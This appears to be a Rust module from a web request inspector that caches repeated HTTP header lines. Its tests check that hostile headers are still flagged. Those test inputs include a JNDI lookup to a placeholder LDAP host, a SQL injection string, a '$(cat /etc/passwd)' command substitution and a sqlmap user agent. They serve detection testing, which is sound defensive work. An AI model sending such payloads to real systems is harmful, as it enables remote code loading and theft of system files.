//! Header lines that came before and in which there was nothing: most clients send the same agent,
//! the same origin and the same languages, request after request.
//!
//! A line is known by all of its bytes, so that nothing can be taken for it. It is learned when it
//! comes a second time in its slot, so that lines that come once displace none. It takes of the budgets
//! what it took when it was read, so that a line that is passed over leaves the rest of its request as much
//! as one that is read. What came before still tells in one way, here as in all values: matchers need not
//! learn again what an earlier request had them learn, and what they must learn is paid for.

use super::sink::Taken;
use super::{Sink, Visitor};

/// Slots; a power of two. With their texts they take some 36 KiB a thread.
const SLOTS: usize = 128;
/// Longest line that is kept. Units: bytes.
const LONGEST: usize = 232;
/// Shorter ones are read as fast.
const SHORTEST: usize = 16;

#[derive(Clone)]
struct Slot {
    /// The hash of the line that came last and is not the one that is kept.
    candidate: u64,
    taken: Taken,
    length: u8,
    text: [u8; LONGEST],
}

const EMPTY: Slot = Slot {
    candidate: 0,
    taken: Taken::NOTHING,
    length: 0,
    text: [0; LONGEST],
};

/// The lines that are known.
#[derive(Default)]
pub struct Familiar {
    slots: Vec<Slot>,
}

impl Familiar {
    /// Has `read` read a line, unless nothing was in it before.
    /// Cost: a hash of a few of its bytes and, for a line that is known, a comparison.
    #[inline]
    pub fn pass_or<'s, V: Visitor>(
        &mut self,
        sink: &mut Sink<'s, V>,
        line: &[u8],
        read: impl FnOnce(&mut Sink<'s, V>),
    ) {
        let apt = (SHORTEST..=LONGEST).contains(&line.len()) && !sink.odd;
        let Some(before) = sink.noted().filter(|_| apt) else {
            return read(sink);
        };
        let hash = hash(line);
        if let Some(slot) = self.slots.get_mut(hash as usize % SLOTS) {
            if slot.text[..usize::from(slot.length)] == *line {
                if sink.take_again(slot.taken) {
                    slot.candidate = 0;
                    return;
                }
            } else if slot.candidate != hash {
                slot.candidate = hash;
                return read(sink);
            }
        }
        let (taken, gaps) = (sink.taken(), sink.gaps);
        read(sink);
        // Without steps nothing nested is read, and nothing noted.
        if sink.noted() == Some(before) && sink.gaps == gaps && !sink.is_spent() {
            self.learn(hash, line, sink.taken().since(taken));
        }
    }

    #[inline(never)]
    fn learn(&mut self, hash: u64, line: &[u8], taken: Taken) {
        if self.slots.is_empty() {
            self.slots = vec![EMPTY; SLOTS];
        }
        let Ok(length) = u8::try_from(line.len()) else {
            return;
        };
        if let Some(slot) = self.slots.get_mut(hash as usize % SLOTS) {
            (slot.length, slot.taken, slot.candidate) = (length, taken, 0);
            slot.text[..line.len()].copy_from_slice(line);
        }
    }
}

/// Hashes a line's length, and its bytes at four places: agents differ somewhere in their middle.
fn hash(line: &[u8]) -> u64 {
    let word = |at: usize| match line.get(at..).and_then(|rest| rest.first_chunk()) {
        Some(bytes) => u64::from_le_bytes(*bytes),
        None => 0,
    };
    let last = line.len() - 8;
    let places = [0, last / 2, last - last / 4, last];
    let mixed = places.iter().fold(line.len() as u64, |mixed, at| {
        (mixed ^ word(*at))
            .wrapping_mul(0x9e37_79b9_7f4a_7c15)
            .rotate_left(29)
    });
    mixed.max(1)
}

#[cfg(test)]
mod tests {
    use crate::inspect::{Family, Findings, Inspector};
    use crate::request::{Body, Request};
    use crate::verdict::Uninspected;

    fn inspect(inspector: &Inspector, headers: &[u8]) -> Findings {
        looked_at(inspector, headers).0
    }

    /// Tells, too, how many values a detector looked at.
    fn looked_at(inspector: &Inspector, headers: &[u8]) -> (Findings, usize) {
        let request = Request {
            method: b"GET",
            path: b"/a",
            headers,
            ..Request::default()
        };
        let (mut found, mut looks) = (Findings::default(), 0);
        inspector.inspect_each(&request, &mut found, |_| looks += 1);
        (found, looks)
    }

    const CLEAN: &[u8] =
        b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0 Safari/537.36\r\n\
        Referer: https://app.example.com/dashboard?tab=orders&q=blue+shoes\r\n\
        X-Client: checkout, version 3 (stable)\r\n";

    #[test]
    fn a_familiar_line_counts_as_before() {
        let inspector = Inspector::new(&Family::ALL);
        let (first, looks) = looked_at(&inspector, CLEAN);
        assert!(first.list.is_empty() && first.values > 3, "{first:?}");
        for _ in 0..4 {
            let again = inspect(&inspector, CLEAN);
            assert!(again.list.is_empty(), "{again:?}");
            assert_eq!((again.values, again.steps), (first.values, first.steps));
        }
        assert!(looks > 0 && looked_at(&inspector, CLEAN).1 == 0);
    }

    /// Else it would depend on what came before how far a request is read.
    #[test]
    fn a_familiar_line_leaves_no_more_to_the_rest() {
        let inspector = Inspector::new(&Family::ALL);
        let costly = b"<a b='<c d=\"".repeat(16 << 10);
        let read = || {
            let mut found = Findings::default();
            let request = Request {
                headers: CLEAN,
                body: Body {
                    bytes: &costly,
                    ..Body::default()
                },
                ..Request::default()
            };
            inspector.inspect(&request, &mut found);
            (found.steps, found.values, found.uninspected_bytes)
        };
        let first = read();
        for _ in 0..3 {
            assert_eq!(read(), first);
        }
        assert!(first.2 > 0 && looked_at(&inspector, CLEAN).1 == 0);
    }

    /// A spent budget leaves a token unread, which says nothing about it.
    #[test]
    fn what_was_not_read_is_not_learned() {
        let inspector = Inspector::new(&Family::ALL);
        let line = b"X-Data: UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09\r\n";
        let costly = b"<a b='<c d=\"".repeat(16 << 10);
        for _ in 0..4 {
            let mut found = Findings::default();
            let request = Request {
                query: &costly,
                headers: line,
                ..Request::default()
            };
            inspector.inspect(&request, &mut found);
            assert!(found.uninspected.contains(Uninspected::OVER_BUDGET));
        }
        let found = inspect(&inspector, line);
        assert!(!found.list.is_empty(), "{found:?}");
    }

    #[test]
    fn what_speaks_speaks_each_time() {
        let all = Inspector::new(&Family::ALL);
        let few = Inspector::new(&[Family::Xss]);
        for line in [
            &b"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n"[..],
            b"X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n",
            b"Referer: https://a.example/?q=1%27%20or%20%271%27=%271\r\n",
            b"X-Client: checkout, $(cat /etc/passwd)\r\n",
        ] {
            for _ in 0..3 {
                inspect(&few, line);
                inspect(&all, CLEAN);
            }
            let shown = String::from_utf8_lossy(line);
            let found = |headers| inspect(&all, headers).list.len();
            let first = found(line);
            assert!(first > 0, "{shown}");
            for _ in 0..4 {
                assert_eq!(found(line), first, "{shown}");
                assert_eq!(found(CLEAN), 0);
            }
        }
    }

    #[test]
    fn overlong_spellings_elsewhere_have_all_lines_read() {
        let inspector = Inspector::new(&Family::ALL);
        for _ in 0..4 {
            inspect(&inspector, CLEAN);
        }
        let odd = [CLEAN, b"X-Odd: \xc0\xaf\r\n"].concat();
        assert!(looked_at(&inspector, &odd).1 > looked_at(&inspector, CLEAN).1);
    }
}
